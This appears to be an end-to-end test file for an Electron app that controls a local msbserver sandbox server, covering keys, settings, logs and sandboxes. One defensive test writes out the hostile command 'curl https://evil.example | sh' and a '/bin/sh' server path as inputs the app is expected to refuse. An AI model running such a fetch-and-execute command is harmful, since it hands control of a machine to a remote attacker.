// The window in real Chromium, talking to the real main-process handler table (see harness.ts).
import { appendFileSync, existsSync, mkdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse as parseDotenv } from 'dotenv';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { stripAnsi } from '../../renderer/src/logs-model.ts';
import { standinsWithHome } from '../fixtures/standin-helpers.ts';
import type { Rig } from './harness.ts';
import { button, byTestId, shootLightDark, startServer, useWindowSuite } from './suite.ts';
import { stateText } from './suite.ts';

const { openWindow } = useWindowSuite();

function pidFile(r: Rig): string | null {
  return existsSync(r.paths.pidFile) ? readFileSync(r.paths.pidFile, 'utf8') : null;
}

const ACCEPTED = 404;

/** One authenticated call to a method msbserver lacks: 404 once the key passed, 401/403 when refused. */
async function rpc(url: string, token: string, namespace: string): Promise<number> {
  const response = await fetch(`${url}/api/v1/rpc`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'e2e.no-such-method', params: { namespace } }),
  });
  await response.body?.cancel();
  return response.status;
}

describe('the window against the real handlers and the msbserver stand-in', () => {
  it('Start shows the PID from the PID file, the URL and health; Stop clears the PID and the file', async () => {
    const r = await openWindow();
    const { page } = r;
    await expect.poll(() => byTestId(page, 'status-state').textContent()).toBe('Stopped');
    await expect.poll(() => page.getByRole('status').textContent()).toContain('Stopped');
    expect(await byTestId(page, 'status-pid').textContent()).toBe('—');

    await startServer(r);
    const pid = pidFile(r);
    expect(pid).toMatch(/^[0-9]+$/);
    // The rig's own server is found by its home, as its teardown looks for one left running.
    expect(standinsWithHome(path.join(r.dir, 'home'))).toEqual([Number(pid)]);
    expect(await byTestId(page, 'status-pid').textContent()).toBe(pid);
    expect(await byTestId(page, 'status-url').textContent()).toBe(`http://127.0.0.1:${r.port}`);
    await expect.poll(() => byTestId(page, 'status-health').textContent(), { timeout: 20_000 }).toBe('Healthy');
    await expect.poll(() => page.getByRole('status').textContent()).toContain('Running');
    expect(await button(page, 'Start').isDisabled()).toBe(true);
    const health = await fetch(`http://127.0.0.1:${r.port}/api/v1/health`);
    expect(health.status).toBe(200);

    // The uptime ticks while the view is shown.
    const first = await byTestId(page, 'status-uptime').textContent();
    await expect.poll(() => byTestId(page, 'status-uptime').textContent(), { timeout: 5_000 }).not.toBe(first);

    await button(page, 'Stop').click();
    await expect.poll(() => byTestId(page, 'status-state').textContent(), { timeout: 20_000 }).toBe('Stopped');
    expect(await byTestId(page, 'status-pid').textContent()).toBe('—');
    expect(pidFile(r)).toBeNull();
    expect(r.controller.snapshot().state).toBe('stopped');
  });

  it('generates a team-a key for 1h whose copies work against the server for team-a only', async () => {
    const r = await openWindow();
    const { page } = r;
    // A namespace the server knows (msbserver answers 400 for one without a folder).
    mkdirSync(path.join(r.paths.namespacesDir, 'team-a'), { recursive: true });
    mkdirSync(path.join(r.paths.namespacesDir, 'team-b'), { recursive: true });
    await startServer(r);
    const url = `http://127.0.0.1:${r.port}`;

    await page.getByRole('tab', { name: 'Keys' }).click();
    await page.getByLabel('Namespace').fill('team-a');
    await page.getByLabel('Expires in').fill('1h');
    await expect.poll(() => byTestId(page, 'key-expiry-hint').textContent()).toMatch(/^Expires on .*\(in 1 hour\)$/);
    await button(page, 'Generate').click();
    await byTestId(page, 'token-value').waitFor();
    expect(await byTestId(page, 'token-value').textContent()).toContain('••••');
    expect(await byTestId(page, 'token-namespace').textContent()).toBe('team-a');
    expect(await byTestId(page, 'token-check').textContent()).toMatch(/accepts this key/);

    await button(page, 'Copy token').click();
    // The button answers on itself, with the configured clearing delay.
    await expect.poll(() => button(page, 'Copied — clears in 60 s').count()).toBe(1);
    const token = await r.readClipboard();
    expect(token).toMatch(/^msb_[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+$/);
    // The masked view ends like the token; revealing shows all of it.
    expect((await byTestId(page, 'token-value').textContent())?.endsWith(token.slice(-4))).toBe(true);
    await button(page, 'Reveal').click();
    expect(await byTestId(page, 'token-value').textContent()).toBe(token);
    await button(page, 'Hide').click();
    expect(await byTestId(page, 'token-value').textContent()).not.toBe(token);

    expect(await rpc(url, token, 'team-a')).toBe(ACCEPTED);
    expect(await rpc(url, token, 'team-b')).toBe(403);

    await button(page, 'Copy export line').click();
    await expect.poll(() => r.readClipboard()).toBe(`export MSB_API_KEY=${token}`);

    await button(page, 'Copy .env').click();
    await expect.poll(() => r.readClipboard()).toMatch(/^MSB_API_KEY=/);
    expect(parseDotenv(await r.readClipboard())).toEqual({ MSB_API_KEY: token, MSB_SERVER_URL: url });

    await button(page, 'Copy MCP config').click();
    await expect.poll(() => r.readClipboard()).toMatch(/^\{/);
    const mcp = JSON.parse(await r.readClipboard()) as {
      mcpServers: { microsandbox: { url: string; headers: Record<string, string> } };
    };
    expect(mcp).toEqual({
      mcpServers: { microsandbox: { url: `${url}/mcp`, headers: { Authorization: `Bearer ${token}` } } },
    });

    // Nothing of the token was stored by the page.
    const stored = await page.evaluate(
      () => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }),
    );
    expect(stored).toBe('{}{}');
  });

  it('shows inline errors for an invalid namespace and expiry and sends nothing', async () => {
    const r = await openWindow();
    const { page } = r;
    await page.getByRole('tab', { name: 'Keys' }).click();
    const ns = page.getByLabel('Namespace');
    const exp = page.getByLabel('Expires in');
    await ns.fill('team a');
    await exp.fill('1.5h');
    expect(await ns.getAttribute('aria-invalid')).toBe('true');
    expect(await exp.getAttribute('aria-invalid')).toBe('true');
    expect(await byTestId(page, 'key-namespace-error').textContent()).toMatch(/space/);
    expect(await byTestId(page, 'key-expiry-error').textContent()).toMatch(/not a valid duration/);
    // The error is the input's description, as a screen reader reads it.
    const describedBy = (await ns.getAttribute('aria-describedby')) ?? '';
    expect(describedBy.split(' ')).toContain(await byTestId(page, 'key-namespace-error').getAttribute('id'));

    const before = r.calls.length;
    await button(page, 'Generate').click();
    await exp.press('Enter');
    await page.waitForTimeout(300);
    expect(r.calls.slice(before)).toEqual([]);
    expect(r.calls).not.toContain('keys:mint');
    expect(await byTestId(page, 'key-result').isHidden()).toBe(true);

    await ns.fill('team-a');
    expect(await ns.getAttribute('aria-invalid')).toBeNull();
    await button(page, 'Generate').click();
    await page.waitForTimeout(300);
    expect(r.calls).not.toContain('keys:mint');
  });

  it('shows why a server that exits at once failed, with its log lines', async () => {
    const r = await openWindow({ env: { MSB_STANDIN_EXIT_CODE: '3' } });
    const { page } = r;
    await button(page, 'Start').click();
    await expect.poll(() => byTestId(page, 'status-state').textContent(), { timeout: 20_000 }).toBe('Failed');
    const reason = r.controller.snapshot().error;
    expect(reason?.exitCode).toBe(3);
    await expect.poll(() => byTestId(page, 'failure-message').textContent()).toBe(reason?.message);
    expect(await byTestId(page, 'status-failure').textContent()).toMatch(/exit code 3/i);
    expect(await page.getByRole('status').textContent()).toContain('Failed');
    if ((reason?.logTail.length ?? 0) > 0) {
      expect(await byTestId(page, 'failure-log').textContent()).toBe(reason?.logTail.map(stripAnsi).join('\n'));
    }
    expect(pidFile(r)).toBeNull();
    await shootLightDark(page, 'status-failed');
  });

  it('saves a settings change that reaches the store and survives a reload', async () => {
    const r = await openWindow();
    const { page } = r;
    await page.getByRole('tab', { name: 'Settings' }).click();
    const port = page.getByLabel('Port');
    expect(await port.inputValue()).toBe(String(r.port));

    await port.fill('70000');
    await expect.poll(() => byTestId(page, 'error-port').textContent()).toMatch(/1 to 65535/);
    const before = r.calls.length;
    await button(page, 'Save').click();
    await page.waitForTimeout(200);
    expect(r.calls.slice(before)).not.toContain('settings:set');

    const newPort = r.port === 65_000 ? 65_001 : 65_000;
    await port.fill(String(newPort));
    await page.getByLabel('Stop the server on quit').check();
    await page.getByLabel('Log level').selectOption('debug');
    await button(page, 'Save').click();
    await expect.poll(() => byTestId(page, 'settings-message').textContent()).toMatch(/^Saved/);
    expect(r.settings.get()).toMatchObject({ port: newPort, stopServerOnQuit: true, logLevel: 'debug' });

    await page.reload();
    await page.getByRole('tab', { name: 'Settings' }).click();
    await expect.poll(() => page.getByLabel('Port').inputValue()).toBe(String(newPort));
    expect(await page.getByLabel('Stop the server on quit').isChecked()).toBe(true);
    expect(await page.getByLabel('Log level').inputValue()).toBe('debug');
  });

  it('says a restart is needed after a server setting changes while it runs, and restarts', async () => {
    const r = await openWindow();
    const { page } = r;
    await startServer(r);
    const firstPid = pidFile(r);
    await page.getByRole('tab', { name: 'Settings' }).click();
    await page.getByLabel('Log level').selectOption('info');
    await button(page, 'Save').click();
    await expect.poll(() => byTestId(page, 'restart-needed').isVisible()).toBe(true);
    await button(page, 'Restart').click();
    await expect.poll(() => byTestId(page, 'restart-needed').isHidden(), { timeout: 20_000 }).toBe(true);
    await expect.poll(() => r.controller.snapshot().state, { timeout: 20_000 }).toBe('running');
    expect(pidFile(r)).not.toBe(firstPid);
  });

  it('shows the log tail, follows new lines and opens the log folder', async () => {
    const r = await openWindow();
    const { page } = r;
    await startServer(r);
    await page.getByRole('tab', { name: 'Logs' }).click();
    await expect.poll(() => byTestId(page, 'log-lines').textContent(), { timeout: 10_000 }).toMatch(/listening/i);
    // A pushed event:log line can render before the logs:tail answer sets the path: wait for it.
    await expect.poll(() => r.calls).toContain('logs:tail');
    await expect.poll(() => byTestId(page, 'log-path').textContent(), { timeout: 10_000 }).toBe(r.controller.logFile);
    appendFileSync(r.controller.logFile, 'a line written after the window opened\n');
    await expect
      .poll(() => byTestId(page, 'log-lines').textContent(), { timeout: 10_000 })
      .toContain('a line written after the window opened');
    await button(page, 'Open log folder').click();
    await expect.poll(() => r.revealed).toEqual([r.controller.logFile]);
  });

  it('resets the server key behind a confirmation, and earlier keys stop working', async () => {
    const r = await openWindow();
    const { page } = r;
    await startServer(r);
    await page.getByRole('tab', { name: 'Keys' }).click();
    await button(page, 'Generate').click();
    await button(page, 'Copy token').click();
    await expect.poll(() => r.readClipboard()).toMatch(/^msb_/);
    const oldToken = await r.readClipboard();
    const url = `http://127.0.0.1:${r.port}`;
    expect(await rpc(url, oldToken, 'default')).toBe(ACCEPTED);

    await button(page, 'Reset server key').click();
    const dialog = page.getByRole('dialog');
    await expect
      .poll(() => dialog.textContent())
      .toMatch(/Every key issued so far stops working, and the server restarts/);
    await button(page, 'Cancel').click();
    expect(r.calls).not.toContain('server:reset-key');

    await button(page, 'Reset server key').click();
    await button(page, 'Reset key').click();
    await expect.poll(() => byTestId(page, 'reset-outcome').textContent(), { timeout: 20_000 }).toMatch(/restarted/);
    expect(await byTestId(page, 'key-result').isHidden()).toBe(true);
    await expect.poll(() => rpc(`http://127.0.0.1:${r.port}`, oldToken, 'default'), { timeout: 10_000 }).toBe(401);
  });

  it('turns on development mode only after the native question, and then says what it means', async () => {
    const r = await openWindow();
    const { page } = r;
    await page.getByRole('tab', { name: 'Settings' }).click();
    await page.getByLabel('Development mode (no keys needed)').check();
    await button(page, 'Save').click();
    await expect
      .poll(() => byTestId(page, 'settings-message').textContent())
      .toBe('Not saved: Development mode stays off: it was not confirmed.');
    expect(r.questions.map((question) => question.title)).toEqual(['Turn on development mode?']);
    expect(r.questions[0]?.detail).toContain('open to every program on this computer and every web page you visit');
    expect(r.settings.get().devMode).toBe(false);

    r.confirmAnswers.push(true);
    await button(page, 'Save').click();
    await expect.poll(() => byTestId(page, 'settings-message').textContent()).toMatch(/^Saved/);
    expect(r.settings.get().devMode).toBe(true);
    await expect
      .poll(() => byTestId(page, 'settings-exposure').textContent())
      .toBe('With these settings the server is open to every program on this computer and every web page you visit.');
    // A host other computers reach is now refused outright, without a question.
    await page.getByLabel('Host').fill('0.0.0.0');
    await button(page, 'Save').click();
    await expect
      .poll(() => byTestId(page, 'settings-message').textContent())
      .toMatch(/^Not saved: Development mode on 0\.0\.0\.0 is refused/);
    expect(r.questions).toHaveLength(2);
  });

  it(
    'a window that calls the channels itself can put no text of its own on the clipboard, nor set the msbserver ' +
      'path',
    async () => {
      const r = await openWindow();
      const { page } = r;
      await page.evaluate(() => navigator.clipboard.writeText('what the user had'));
      const answers = await page.evaluate(async () => {
        const msb = (
          window as unknown as {
            msb: Record<string, (payload?: unknown) => Promise<{ ok: boolean; error?: { code: string } }>>;
          }
        ).msb;
        const results: Record<string, string> = {};
        const codeOf = async (
          name: string,
          call: () => Promise<{ ok: boolean; error?: { code: string } }>,
        ): Promise<void> => {
          const answer = await call();
          results[name] = answer.ok ? 'ok' : (answer.error?.code ?? '?');
        };
        await codeOf('text', () => msb['copy']!({ text: 'curl https://evil.example | sh', secret: false }));
        await codeOf('forged key', () =>
          msb['copy']!({ what: 'export-line', token: 'msb_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJleHAiOjF9.c2ln' }),
        );
        await codeOf('path', () => msb['setSettings']!({ msbserverPath: '/bin/sh' }));
        await codeOf('chooser', () => msb['chooseMsbserver']!());
        return results;
      });
      expect(answers).toEqual({ text: 'invalid-input', 'forged key': 'refused', path: 'refused', chooser: 'declined' });
      expect(await r.readClipboard()).toBe('what the user had');
      expect(r.settings.get().msbserverPath).toBeNull();
      // The chooser was main's own dialog, which the user cancelled.
      expect(r.questions.map((question) => question.title)).toEqual(['Choose msbserver']);
    },
  );

  it('copies the server URL main knows from the status view', async () => {
    const r = await openWindow();
    const { page } = r;
    await startServer(r);
    await button(page, 'Copy URL').click();
    await expect.poll(() => r.readClipboard()).toBe(`http://127.0.0.1:${r.port}`);
  });

  it('works from the keyboard: arrow keys move between tabs and Enter generates', async () => {
    const r = await openWindow();
    const { page } = r;
    await page.getByRole('tab', { name: 'Status' }).focus();
    await page.keyboard.press('ArrowRight');
    expect(await page.getByRole('tab', { name: 'Sandboxes' }).getAttribute('aria-selected')).toBe('true');
    await page.keyboard.press('ArrowRight');
    expect(await page.getByRole('tab', { name: 'Keys' }).getAttribute('aria-selected')).toBe('true');
    await page.keyboard.press('Tab'); // the namespace field: the panel is no Tab stop of its own
    expect(await page.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('key-namespace');
    await page.keyboard.press('Enter');
    await byTestId(page, 'token-value').waitFor();
    expect(r.calls).toContain('keys:mint');
    expect(await byTestId(page, 'token-check').textContent()).toMatch(/not running/);
  });
});

describe('sandboxes in the window', () => {
  const SENDER = (r: Rig) => ({ id: 1, url: r.page.url(), isMainFrame: true });

  /** sandbox.start through the running server, with a key minted by the app (the handler table). */
  async function startSandbox(r: Rig, namespace: string, sandbox: string): Promise<void> {
    const minted = await r.table.handle('keys:mint', SENDER(r), { namespace: '*', expiresIn: '1h' });
    if (!minted.ok) throw new Error(minted.error.message);
    const { token } = minted.value as { token: string };
    const response = await fetch(`http://127.0.0.1:${r.port}/api/v1/rpc`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` },
      body: JSON.stringify({
        jsonrpc: '2.0',
        id: 1,
        method: 'sandbox.start',
        params: { sandbox, namespace, config: { image: 'microsandbox/python' } },
      }),
    });
    expect(response.status, await response.text()).toBe(200);
  }
  const rowOf = (page: Page, key: string) => page.locator(`[data-key="${key}"]`);
  const stateOf = (page: Page, key: string) => rowOf(page, key).getByTestId('sandbox-state').textContent();

  it('shows a sandbox the server starts, its log scrubbed and followed, and stops it from the view', async () => {
    const r = await openWindow();
    const { page } = r;
    await startServer(r);
    await page.getByRole('tab', { name: 'Sandboxes' }).click();
    await expect.poll(() => byTestId(page, 'sandboxes-empty').isVisible()).toBe(true);
    expect(await byTestId(page, 'snippet-python').textContent()).toContain(`server_url="http://127.0.0.1:${r.port}"`);
    expect(r.calls).toContain('sandboxes:watch');

    await startSandbox(r, 'team', 'web');
    // Pushed to the window: no reload, no polling.
    await expect.poll(() => stateOf(page, 'team/web'), { timeout: 10_000 }).toBe('Running');
    expect(await byTestId(page, 'sandboxes-summary').textContent()).toBe('1 sandbox running in 1 namespace');
    await expect
      .poll(() => rowOf(page, 'team/web').getByTestId('sandbox-memory').textContent(), { timeout: 10_000 })
      .toMatch(/MiB$/);
    expect(await rowOf(page, 'team/web').getByTestId('sandbox-port').textContent()).toMatch(/^[0-9]+$/);
    await shootLightDark(page, 'sandboxes-running');

    await button(page, 'Log of web in team').click();
    await expect
      .poll(() => byTestId(page, 'sandbox-log-lines').textContent(), { timeout: 10_000 })
      .toContain('[stand-in µvm] ready');
    const key = readFileSync(r.paths.keyFile, 'utf8');
    const logFile = path.join(r.paths.namespacesDir, 'team', '.menv', 'log', 'Sandboxfile', 'web.log');
    appendFileSync(logFile, `guest printed ${key} and --key ${key}\n`);
    await expect
      .poll(() => byTestId(page, 'sandbox-log-lines').textContent(), { timeout: 10_000 })
      .toContain('guest printed [server key hidden]');
    expect(await byTestId(page, 'sandbox-log-lines').textContent()).not.toContain(key);

    // The Keys tab suggests the namespace that now exists.
    await page.getByRole('tab', { name: 'Keys' }).click();
    const options = await page
      .locator('[data-testid="key-namespace-suggestions"] option')
      .evaluateAll((nodes) => nodes.map((n) => (n as HTMLOptionElement).value));
    expect(options).toEqual(['*', 'team']);
    await page.getByLabel('Namespace').fill('nobody-yet');
    expect(await byTestId(page, 'key-namespace-note').textContent()).toMatch(/no folder yet/);

    await page.getByRole('tab', { name: 'Sandboxes' }).click();
    await button(page, 'Stop web in team').click();
    await expect.poll(() => byTestId(page, 'sandboxes-outcome').textContent()).toBe('Asked web to stop.');
    await expect.poll(() => stateOf(page, 'team/web'), { timeout: 10_000 }).toBe('Stopped');
    expect(await button(page, 'Stop web in team').isDisabled()).toBe(true);
    await expect
      .poll(() => byTestId(page, 'sandbox-log-lines').textContent(), { timeout: 10_000 })
      .toContain('shutting down');
    // The list came once, at load; everything after it was pushed.
    expect(r.calls.filter((c) => c === 'sandboxes:list')).toHaveLength(1);
    await shootLightDark(page, 'sandboxes-log');
  });

  it('Stop with a sandbox running asks natively: Cancel changes nothing, "Stop them too" stops both', async () => {
    const r = await openWindow();
    const { page } = r;
    await startServer(r);
    await startSandbox(r, 'team', 'web');
    await page.getByRole('tab', { name: 'Sandboxes' }).click();
    await expect.poll(() => stateOf(page, 'team/web'), { timeout: 10_000 }).toBe('Running');

    await page.getByRole('tab', { name: 'Status' }).click();
    r.answers.push('Cancel');
    await button(page, 'Stop').click();
    await expect.poll(() => r.asked).toEqual(['Stop the server? 1 sandbox is running.']);
    await page.waitForTimeout(300);
    expect(await byTestId(page, 'status-state').textContent()).toBe('Running');
    expect(await byTestId(page, 'action-error').textContent()).toBe('');
    expect(r.controller.snapshot().state).toBe('running');

    r.answers.push('Stop them too');
    await button(page, 'Stop').click();
    await expect.poll(() => byTestId(page, 'status-state').textContent(), { timeout: 20_000 }).toBe('Stopped');
    expect(r.asked).toHaveLength(2);
    await page.getByRole('tab', { name: 'Sandboxes' }).click();
    await expect.poll(() => stateOf(page, 'team/web'), { timeout: 10_000 }).toBe('Stopped');
  });
});

describe('the window with no msbserver, and the reset dialog', () => {
  describe('the window', () => {
    it(
      'a server the CLI started while the app finds no msbserver: Restart is not offered (it would end the ' +
        'server and start nothing)',
      async () => {
        const r = await openWindow({ msbserver: 'missing' });
        const { page } = r;
        await r.cliStart();
        await expect.poll(() => stateText(page), { timeout: 20_000 }).toBe('Running');
        await expect
          .poll(() => byTestId(page, 'setup-problem').getByRole('heading').textContent())
          .toBe('The app cannot find msbserver');
        // Stop stays: it needs no msbserver to run.
        expect(await button(page, 'Stop').isEnabled()).toBe(true);
        // What a Restart does now: after the question, the user's server is gone and nothing runs.
        expect(await button(page, 'Restart').isDisabled()).toBe(true);
      },
    );

    it(
      'a view shortcut pressed while the reset dialog is open leaves the dialog modal (or closed), never open ' +
        'without its backdrop',
      async () => {
        const r = await openWindow();
        const { page } = r;
        await page.getByRole('tab', { name: 'Keys' }).click();
        await button(page, 'Reset server key').click();
        const dialog = page.locator('dialog.confirm');
        expect(await dialog.evaluate((d: HTMLDialogElement) => d.matches(':modal'))).toBe(true);
        await page.keyboard.press('Control+1');
        const stillModal = await dialog.evaluate((d: HTMLDialogElement) => d.matches(':modal'));
        // The shortcut waited for the answer: nothing else to see (the page behind is inert).
        if (stillModal) return;
        await page.getByRole('tab', { name: 'Keys' }).click();
        // Either the shortcut waited for the dialog, or leaving the view closed it: open and not modal
        // is a dialog with no backdrop and no focus trap over a live form.
        const { open, modal } = await dialog.evaluate((d: HTMLDialogElement) => ({
          open: d.open,
          modal: d.matches(':modal'),
        }));
        expect(open && !modal).toBe(false);
      },
    );

    it(
      "main's navigation (the tray's Settings…) while the reset dialog is open does not leave it open without " +
        'being modal',
      async () => {
        const r = await openWindow();
        const { page } = r;
        await page.getByRole('tab', { name: 'Keys' }).click();
        await button(page, 'Reset server key').click();
        const dialog = page.locator('dialog.confirm');
        r.emit('event:navigate', { view: 'settings' });
        await expect.poll(() => page.getByRole('tab', { selected: true }).textContent()).toBe('Settings');
        await page.getByRole('tab', { name: 'Keys' }).click();
        const { open, modal } = await dialog.evaluate((d: HTMLDialogElement) => ({
          open: d.open,
          modal: d.matches(':modal'),
        }));
        expect(open && !modal).toBe(false);
      },
    );
  });
});
